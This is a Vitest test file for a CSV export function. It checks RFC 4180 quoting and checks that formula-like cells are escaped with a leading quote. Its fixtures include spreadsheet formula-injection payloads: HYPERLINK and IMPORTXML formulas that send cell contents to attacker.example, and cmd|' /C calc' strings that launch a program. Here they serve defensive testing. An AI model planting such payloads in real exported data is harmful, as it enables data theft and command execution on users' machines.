import { describe, expect, it } from 'vitest';
import { toCsv } from '@/lib/csv';

const cell = (value: string) => toCsv([[value]]).slice(0, -2);

describe('toCsv', () => {
  it('writes RFC 4180: CRLF line ends, quoting only where a field needs it', () => {
    expect(toCsv([['month', 'verdict'], ['2024-01', 'x,"y"'], ['a\nb', '']])).toBe('month,verdict\r\n2024-01,"x,""y"""\r\n"a\nb",\r\n');
  });

  it('keeps addresses and text that a spreadsheet would not evaluate exactly as they are', () => {
    for (const value of ['-reader@example.org', '+news@example.org', 'ana+mali@example.org', 'o.brien%list@example.org', '-1', '+3.5', 'ana@example.org', "'quoted@example.org", '']) {
      expect(cell(value), value).toBe(value);
    }
  });

  it('guards every cell a spreadsheet would read as a formula with a leading quote', () => {
    const formulas = [
      '=cmd@example.org',
      '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
      '@SUM(A1:A9)',
      '@example.org',
      "+cmd|' /C calc'!A0@example.org",
      "-cmd|' /C calc'!A0",
      '-2+3+cmd|"/C calc"!A0',
      '+IMPORTXML(CONCAT("https://attacker.example/",A1),"//a")',
      '-1;2',
      '+33 1',
      '\t=1+1',
      '\r=1+1',
      '\0=1+1',
    ];
    for (const value of formulas) {
      const written = cell(value);
      const unquoted = written.startsWith('"') ? written.slice(1, -1).replace(/""/g, '"') : written;
      expect(unquoted, JSON.stringify(value)).toBe(`'${value}`);
    }
  });
});
